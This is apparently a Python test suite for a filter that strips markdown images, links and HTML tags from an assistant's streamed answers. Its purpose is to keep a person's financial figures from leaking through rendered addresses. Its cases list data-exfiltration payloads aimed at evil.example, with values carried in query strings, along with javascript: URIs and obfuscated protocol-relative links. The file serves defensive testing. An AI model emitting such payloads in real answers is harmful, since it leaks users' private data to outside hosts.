"""Answers that would load something, or lead somewhere, with a person's figures in the address."""

import re
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from shared.assistant.links import SafeText, addresses

KNOWN = "https://news.example/apple"


def said(text: str, size: int = 1) -> str:
    """Return what is shown of a text that comes in pieces."""
    safe = SafeText(lambda: {KNOWN})
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join(safe.feed(piece) for piece in pieces) + safe.finish()


@pytest.mark.parametrize("size", [1, 3, 1_000])
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Worth ![x](https://evil.example/?d=31337.42) now", "Worth [x] now"),
        ("![x]( <https://evil.example/?d=1> 'title')", "[x]"),
        ("![a\nb](\nhttps://evil.example/1)", "[a\nb]"),
        ("Wow!!![x](https://evil.example/?d=1)", "Wow[x]"),
        ("!![x](/portfolios/1)", "[x](/portfolios/1)"),
        ("[here](https://evil.example/?d=1)", "[here]"),
        ("[here](javascript:alert(1))", "[here])"),
        ("[here](data:text/html;base64,AA)", "[here]"),
        ("[here](//evil.example/1)", "[here]"),
        # As renderers and browsers read them, all of these begin with two slashes.
        ("[here](/&sol;evil.example/1)", "[here]"),
        ("[here](/&bsol;evil.example/1)", "[here]"),
        ("[here](&sol;/evil.example/1)", "[here]"),
        ("[here](/&Tab;/evil.example/1)", "[here]"),
        ("[here](</\t/evil.example/1>)", "[here]"),
        ("[here](\\//evil.example/1)", "[here]"),
        ("[here](/\\/evil.example/1)", "[here]"),
        ("![x][1]\n\n[1]: /&sol;evil.example/1\nEnd", "[x][1]\n\n[1]\nEnd"),
        ("![x][1]\n\n[1]: https://evil.example/?d=1\nEnd", "[x][1]\n\n[1]\nEnd"),
        ('<img src="https://evil.example/?d=1">Hi', "Hi"),
        ("<IFRAME src=//evil.example></IFRAME>Hi", "Hi"),
        ("<https://evil.example/?d=1>", ""),
        ("<img src=https://evil.example/?d=1", "< img src=https://evil.example/?d=1"),
    ],
)
def test_nothing_is_loaded_from_elsewhere(text: str, shown: str, size: int) -> None:
    assert said(text, size) == shown


@pytest.mark.parametrize("size", [1, 3, 1_000])
def test_a_definition_with_a_tab_in_it_leads_nowhere(size: int) -> None:
    shown = said("![x][1]\n\n[1]: </\t/evil.example/1>\nEnd", size)
    assert "]: </" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "It rose 5 % [t1/total_value], more than SPY (3 %) [1].",
        f"[Apple rises]({KNOWN})",
        "[holdings](/portfolios/1) and [below](#below)",
        "P/E < 15 and x<y, 3 < 4! Wow!",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "[a] [b]: c",
    ],
)
def test_what_does_no_harm_stays_as_it_is(text: str) -> None:
    assert said(text) == said(text, 1_000) == text.replace("x<y", "x< y")


@given(st.text(alphabet="!<>[](): \nhtps/x'\"\\#", max_size=60), st.integers(1, 7))
def test_pieces_make_no_difference_to_what_may_load(text: str, size: int) -> None:
    shown = said(text, size)
    assert "![" not in shown
    assert "](h" not in shown.replace(" ", "")
    assert "<h" not in shown


PARTS = (
    "<", ">", "b", "</b>", "<img src=", "![", "](", "[x]", "[", "]", "(", ")", "[1]: ", "]:", "!",
    "//evil.example", "https://evil.example", "<https://evil.example>", "javascript:", KNOWN, "/a",
    "#b", "<!--", "-->", "`", "*", "\\", "'", " ", "\n", "\n\n", "\t", "&", "#x3c;", "&#x3c;",
    "&#62;", "&#33;", "&#91;", "&#93;", "&#40;", "&#41;", "&sol;", "&lt;", "a" * 2_100,
)  # fmt: skip


def harm(tokens: Sequence[Token]) -> Iterator[str]:
    """Yield what a reader of CommonMark would load, follow or take for a tag."""
    for token in tokens:
        if token.type in {"image", "html_inline", "html_block"}:
            yield token.type
        if token.type == "link_open":
            leads = str(token.attrs["href"])
            if leads != KNOWN and re.match(r"[A-Za-z][\w+.-]*:|[\\/]{2}", leads):
                yield leads
        yield from harm(token.children or ())


@given(st.lists(st.sampled_from(PARTS), max_size=14), st.booleans())
@example(["&#x3c;", "<img src="[1:], "//evil.example", "&#62;"], False)
@example(list("[x]<b>(//evil.example)"), False)
@example(["[x]", "<b>", "(//evil.example)"], True)
@example(["[x](", "https://evil.example/", "a" * 2_100, ")"], True)
@example(["<", "<b>", "img src=//evil.example>"], True)
@example(["&#33;", "&#60;", "https://evil.example", ">"], True)
def test_a_reader_of_markdown_finds_nothing_to_load(parts: list[str], is_whole: bool) -> None:
    safe = SafeText(lambda: {KNOWN})
    pieces = ["".join(parts)] if is_whole else parts
    shown = "".join(safe.feed(piece) for piece in pieces) + safe.finish()
    assert not list(harm(MarkdownIt("commonmark", {"html": True}).parse(shown)))


def test_addresses_are_found_wherever_a_tool_tells_them() -> None:
    value = {"items": [{"url": KNOWN, "title": "x"}], "note": "see https://evil.example"}
    assert list(addresses(value)) == [KNOWN]
